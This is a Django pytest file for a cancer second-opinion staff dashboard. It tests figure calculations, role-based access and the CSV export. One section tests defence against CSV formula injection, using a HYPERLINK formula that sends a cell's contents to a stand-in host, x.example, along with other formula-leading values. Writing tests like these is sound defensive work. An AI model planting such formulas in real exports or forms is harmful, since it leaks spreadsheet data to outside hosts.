"""The staff dashboard: who may see it, and that its figures are right."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from requests.choices import TargetState
from requests.models import RecordItem, SecondOpinionRequest
from requests.selectors import open_by_target_state, performance, weekly, weekly_chart
from tests.factories import form_data, make_request

pytestmark = pytest.mark.django_db


@pytest.fixture
def figures_data() -> None:
    """Four decided cases in the last 30 days: 3 met (2, 4 and 6 days), 1 overdue."""
    now = timezone.now()
    for days_to_visit, state in ((2, "met"), (4, "met"), (6, "met"), (None, "overdue")):
        case = make_request()
        submitted = now - timedelta(days=10)
        SecondOpinionRequest.objects.filter(pk=case.pk).update(
            submitted_at=submitted,
            target_state=state,
            first_appointment_at=submitted + timedelta(days=days_to_visit)
            if days_to_visit
            else None,
        )
    old = make_request()
    SecondOpinionRequest.objects.filter(pk=old.pk).update(
        submitted_at=now - timedelta(days=60),
        target_state="missed",
        first_appointment_at=now - timedelta(days=50),
    )


def test_program_figures(figures_data) -> None:
    last30 = performance(days=30)[0]
    assert (last30.cases, last30.decided, last30.within) == (4, 4, 3)
    assert last30.share == pytest.approx(0.75)
    assert last30.median_days == pytest.approx(4.0)
    last90 = performance(days=90)[0]
    assert (last90.cases, last90.decided, last90.within) == (5, 5, 3)
    assert last90.median_days == pytest.approx(5.0)


def test_figures_by_disease_group_and_navigator(figures_data) -> None:
    rows = performance(days=30, group_by="cancer_type")
    assert [(row.label, row.within, row.decided) for row in rows] == [("Breast cancer", 3, 4)]
    rows = performance(days=30, group_by="navigator")
    assert [(row.label, row.cases) for row in rows] == [("Unassigned", 4)]


def test_open_cases_by_state(figures_data) -> None:
    counts = open_by_target_state()
    assert counts[TargetState.OVERDUE] == 1
    assert counts[TargetState.MET] == 3


def test_weekly_chart_has_a_bar_per_week(figures_data) -> None:
    weeks = weekly(weeks=12)
    assert len(weeks) == 13
    assert sum(week["cases"] for week in weeks) == 5
    chart = weekly_chart(weeks)
    assert len(chart["bars"]) == 13
    assert chart["line"]


def test_weekly_chart_has_ticks_for_both_axes(figures_data) -> None:
    """The count axis runs from 0 to the busiest week, the share axis from 0% to 100%; the
    top tick of each sits at the top of the plot and 0 on the bottom axis."""
    weeks = weekly(weeks=12)
    chart = weekly_chart(weeks)
    most = max(week["cases"] for week in weeks)
    assert [tick["value"] for tick in chart["count_ticks"]] == sorted({0, most // 2, most})
    assert [tick["value"] for tick in chart["share_ticks"]] == [0, 50, 100]
    assert chart["count_ticks"][-1]["y"] == chart["share_ticks"][-1]["y"] == chart["top"]
    assert chart["count_ticks"][0]["y"] == chart["axis_y"]
    assert 75 in [point["share"] for point in chart["points"]]


def test_dashboard_chart_has_a_title_axis_labels_and_a_legend(
    client, navigator_user, figures_data
) -> None:
    """The SVG names itself for screen readers and labels each axis, its ticks and its series;
    the table next to it has the same columns."""
    client.force_login(navigator_user)
    html = client.get("/dashboard/").content.decode()
    start = html.index('<svg class="dash-chart"')
    svg = html[start : html.index("</svg>", start)]
    assert 'aria-labelledby="chart-svg-title chart-desc"' in svg
    assert '<title id="chart-svg-title">' in svg
    assert ">Week starting</text>" in svg
    assert ">Requests received per week</text>" in svg
    assert ">Within target (%)</text>" in svg
    assert 'class="legend"' in svg
    assert ">Requests received (number)</text>" in svg
    assert ">Within the 7-day target (% of decided)</text>" in svg
    assert ">100%</text>" in svg
    assert ">0</text>" in svg
    week = weekly(weeks=12)[-1]["week"].strftime("%b %d")
    assert f">{week}</text>" in svg
    table = html[html.index("</svg>", start) :]
    assert "Week starting" in table
    assert "Within the 7-day target (% of decided)" in table


@pytest.mark.parametrize("role", ["supervisor", "navigator_user"])
def test_dashboard_shows_figures_to_navigators_and_supervisors(
    client, request, role, figures_data
) -> None:
    client.force_login(request.getfixturevalue(role))
    response = client.get("/dashboard/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "75%" in html
    assert "<svg" in html
    assert "no-store" in response["Cache-Control"] or "no-cache" in response["Cache-Control"]


@pytest.mark.parametrize("role", ["records_user", "advocate_user"])
def test_dashboard_refuses_other_roles(client, request, role) -> None:
    client.force_login(request.getfixturevalue(role))
    assert client.get("/dashboard/").status_code == 403
    assert client.get("/dashboard/export.csv").status_code == 403


def test_dashboard_sends_anonymous_users_to_login(client) -> None:
    for url in ("/dashboard/", "/dashboard/export.csv"):
        response = client.get(url)
        assert response.status_code == 302
        assert "/admin/login/" in response["Location"]


def test_csv_export(client, supervisor, figures_data) -> None:
    client.force_login(supervisor)
    response = client.get("/dashboard/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][0] == "section"
    program30 = next(row for row in rows if row[0] == "program" and row[2] == "30")
    assert program30[3:7] == ["4", "4", "3", "0.750"]
    assert "Maria" not in response.content.decode()


# --- Spreadsheet formulas in the export (OWASP CSV injection) ------------------------------

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def received_from(case: SecondOpinionRequest) -> None:
    """Mark a case's record items received within the export's window."""
    now = timezone.now()
    RecordItem.objects.filter(case=case).update(
        status=RecordItem.State.RECEIVED,
        requested_at=now - timedelta(days=4),
        received_at=now - timedelta(days=1),
    )


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_a_facility_typed_on_the_public_form_reaches_the_export_as_text(
    client, supervisor, prefix: str
) -> None:
    """A facility name that starts like a formula, typed on the public form, is exported with
    a leading quote: a spreadsheet shows it and runs nothing. (The form strips a leading tab
    or carriage return; what is left is checked the same way.)"""
    facility = f'{prefix}HYPERLINK("http://x.example/?"&A1,"Records")'
    response = client.post("/request/", form_data(current_facility=facility))
    assert response.status_code == 302
    case = SecondOpinionRequest.objects.get()
    stored = case.current_facility
    assert stored.endswith('"Records")')
    received_from(case)
    client.force_login(supervisor)

    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export.csv").content.decode())))

    [row] = [row for row in rows if row[0] == "records_facility"]
    assert row[1] == ("'" + stored if stored.startswith(FORMULA_PREFIXES) else stored)
    assert not row[1].startswith(FORMULA_PREFIXES)


def test_every_text_cell_of_the_export_is_neutralised(client, supervisor, navigator_user) -> None:
    """Whatever column a staff- or patient-typed text lands in (the navigator's name, the
    facility), no cell of the export starts with a formula character."""
    navigator_user.first_name, navigator_user.last_name = "=1+1", "@SUM(A1)"
    navigator_user.save()
    for prefix in FORMULA_PREFIXES:
        case = make_request(current_facility=f"{prefix}cmd", needs_records_help=True)
        SecondOpinionRequest.objects.filter(pk=case.pk).update(
            navigator=navigator_user.navigator,
            assigned_at=timezone.now(),
            status="assigned",
            target_state="met",
        )
        received_from(case)
    client.force_login(supervisor)

    text = client.get("/dashboard/export.csv").content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    assert {f"'{prefix}cmd" for prefix in FORMULA_PREFIXES} <= set(cells)
    assert any(cell.startswith("'=1+1") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize(
    ("role", "linked"), [("supervisor", True), ("navigator_user", True), ("records_user", False)]
)
def test_the_staff_header_links_the_dashboard_for_those_who_may_see_it(
    client, request, role: str, linked: bool
) -> None:
    """The header's Dashboard link follows navigators.access.can_view_dashboard."""
    client.force_login(request.getfixturevalue(role))
    html = client.get("/admin/all/").content.decode()
    assert ('href="/dashboard/"' in html) is linked
